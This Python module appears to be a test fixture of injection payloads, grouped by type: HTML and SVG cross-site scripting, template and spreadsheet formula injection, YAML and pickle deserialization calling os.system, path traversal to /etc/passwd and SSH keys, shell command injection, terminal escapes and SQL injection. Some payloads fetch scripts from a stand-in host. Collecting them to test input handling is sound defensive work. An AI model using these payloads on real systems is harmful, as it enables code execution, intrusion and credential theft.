"""Texts that are written to do harm where somebody shows, opens, parses or runs them: one tuple a way in.

What would run something calls `alert`, asks `outside.example`, or makes a file `pwned` where it runs.
"""

from __future__ import annotations

import pickle

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=http://outside.example/a.js></script>",
    "<script src=//outside.example/b.js>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\">",
    "<img src='http://outside.example/pixel.png'>",
    "<img srcset='http://outside.example/2.png 2x'>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=http://outside.example/s.png><img></picture>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=http://outside.example/v.mp4 autoplay onerror=alert(1)>",
    "<audio src=http://outside.example/a.ogg autoplay>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=http://outside.example/>",
    "<object data=http://outside.example/o.swf>",
    "<embed src=http://outside.example/e.swf>",
    "<applet code=Pwned.class>",
    "<link rel=stylesheet href=http://outside.example/c.css>",
    "<link rel=prefetch href=http://outside.example/p>",
    "<base href=http://outside.example/>",
    "<meta http-equiv=refresh content='0;url=http://outside.example/'>",
    "<form action=http://outside.example/><button autofocus>go",
    "<style>@import 'http://outside.example/i.css'</style>",
    "<style>*{background:url(http://outside.example/u)}</style>",
    "<div style=\"background:url('http://outside.example/d')\">",
    "<table background=http://outside.example/t.png>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=' javascript:alert(1)'>b</a>",
    "<a href=data:text/html,<script>alert(1)</script>>c</a>",
    "<a ping=http://outside.example/ href=#>d</a>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<math><mi xlink:href=javascript:alert(1)>m</mi></math>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<p id=content>twice", "<p class=tabs>tabs", "<data class=n data-file=study>1</data>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)" x="', '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    '" data-row="arm=eps-1" data-column="/x', "x\" style=\"position:fixed",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x&#x3e;",
    "&amp;lt;b&amp;gt;", "&quot; onload=&quot;alert(1)", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\x00script>alert(1)</script>", "<script\x0b>alert(1)</script>",
    "javascript:alert(1)", "java\tscript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<?php system('touch pwned') ?>", "<% alert(1) %>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)  # fmt: skip
SVG = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=http://outside.example/s.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "<svg><image href=http://outside.example/i.png /></svg>",
    "<svg><use href=http://outside.example/u.svg#x /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1) /></foreignObject></svg>",
    "<svg><style>@import url(http://outside.example/f.css)</style></svg>",
    "</text><script>alert(1)</script><text>",
    "</svg><img src=x onerror=alert(1)>",
    "</desc></metadata><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "url(#a) url(http://outside.example/p)",
)
TEMPLATE = (
    "{{ 7 * 7 }}", "{{ config }}", "{% import 'os' as os %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}", "{# hidden #}", "${7*7}", "#{7*7}", "{0.__class__}", "{wildcards.study}",
    "{input}", "%(name)s", "%s%s%s%n", "$\\nothing{$", "$\\frac{1}{$", "\\input{/etc/passwd}", "\\write18{touch pwned}",
    "__proto__", "constructor", "toString", "NaN", "null", "-inf", "eps-1;seed=0", "arm=eps-1",
)  # fmt: skip
MARKDOWN = (
    "[a](javascript:alert(1))", "![a](http://outside.example/m.png)", "![a][b]", "[b]: http://outside.example/r",
    "<http://outside.example/>", "http://outside.example/auto", "www.outside.example", "mailto:a@outside.example",
    "# heading", "> quoted", "- item", "1. item", "1) item", "* item", "+ item", "---", "===", "***", "___",
    "```", "~~~", "    code", "`code`", "``a`b``", "a|b", "| a | b |", "|---|---|", "**bold**", "_under_", "~~struck~~",
    "[^1]", "[ ] task", "@someone", "#123", "$x^2$", ":smile:", "<!-- hidden -->", "<b>bold</b>", "a\\", "\\", "\\|",
    "a\n\n# heading", "a\n---\nb", "a\n| b | c |", "a\n<script>alert(1)</script>",
)  # fmt: skip
SHEET = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://outside.example/\",\"x\")", "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://outside.example/\")", "=IMPORTXML(\"http://outside.example/\",\"//a\")",
    "=IMAGE(\"http://outside.example/\")", "=RTD(\"x\",,\"y\")", "=MSEXCEL|'\\..\\..\\cmd'!''",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\"=1+1", "\"\"=1+1", "x\r=1+1", "x\n=1+1", "x;=1+1;y",
    "x\t=1+1\ty", "x;\"=1+1;\"", "x,=1+1,y", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "%0A=1+1", "=",
    "-", "+", "@", "-0.5", "+0.012", "=-0.5", "-2+3+cmd|' /C calc'!A0", "=1+1\";=1+1;\"",
)  # fmt: skip
YAML = (
    "!!python/object/apply:os.system ['touch pwned']",
    "!!python/object/new:os.system ['touch pwned']",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/object/apply:subprocess.Popen [[touch, pwned]]",
    "!!binary dG91Y2ggcHduZWQ=",
    "!!set {a, b}", "!custom tag", "&anchor a", "*alias", "<<: *a", "%YAML 1.1", "%TAG ! tag:outside.example,2026:",
    "a: b", "a: b\nc: d", "--- a", "...", "{a: b}", "[a, b]", "? a", "| a", "> a", "yes", "0x7f", "1:20:30", "'", '"',
    "a #b", "~",
)  # fmt: skip
PATH = (
    "../pwned", "../../../../../../etc/passwd", "a/../../pwned", "/etc/passwd", "//etc/passwd", "./../pwned", "..", ".",
    "/", "~/pwned", "~root/.ssh/id_rsa", "$HOME/pwned", "${HOME}/pwned", "%2e%2e%2fpwned", "..%2fpwned",
    "..\\..\\pwned",
    "C:\\Windows\\win.ini", "\\\\outside.example\\share\\x", "\\\\?\\C:\\x", "file:///etc/passwd", "con", "nul.png",
    "a\x00.png", "\x00", "a.png\n", "new\nline.png", "\u202egnp.exe", "a\u2066b", "-rf", "--help", "-o pwned", "*", "?",
    "[a-z]", "a b", " leading", "trailing ", "a:b", "/dev/zero", "/proc/self/environ", "e\u0301.png", "\u00e9.png",
    "long" * 50, "L" * 300, "very/" * 1000, "x" * 10_000, ".hidden", "a//b", "\ufeffa.png", "\u200bzero",
)  # fmt: skip
SHELL = (
    "$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "&& touch pwned", "|| touch pwned",
    "& touch pwned &", "\ntouch pwned\n", "> pwned", "' ; touch pwned ; '", '" ; touch pwned ; "', "'$(touch pwned)'",
    '"$(touch pwned)"', "${IFS}touch${IFS}pwned", "$((1+1))", "!!", "\\$(touch pwned)", "a'b\"c d", "<(touch pwned)",
    "$'\\ntouch pwned'", "{touch,pwned}", "#comment", "%PATH%",
)  # fmt: skip
PICKLE = (
    "cos\nsystem\n(S'touch pwned'\ntR.",
    "c__builtin__\neval\n(Vopen('pwned','w')\ntR.",
    "(lp0\nS'touch pwned'\np1\na.",
    "csubprocess\ncall\n(S'touch pwned'\ntR.",
    pickle.dumps({"touch": "pwned"}, protocol=0).decode("latin-1"),
    "\x80\x04\x95.",
    "\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,)}",
    "__import__('os').system('touch pwned')",
    'exec(\'open("pwned","w")\')',
    "lambda: open('pwned','w')",
)
TERMINAL = (
    "\x1b[2J\x1b[1;1H", "\x1b]0;title\x07", "\x1b[31mred", "\x1b]8;;http://outside.example/\x07x", "\x9b31m", "a\x08b",
    "a\x7fb", "\rprivrad: done", "ok\nprivrad: all is well", "\u2028line", "\u2029part", "a\x85b", "\x07", "\x1f\x1e",
    "' OR 1=1 --", "Robert'); DROP TABLE images;--",
)  # fmt: skip
PAYLOADS = (*HTML, *SVG, *TEMPLATE, *MARKDOWN, *SHEET, *YAML, *PATH, *SHELL, *PICKLE, *TERMINAL)
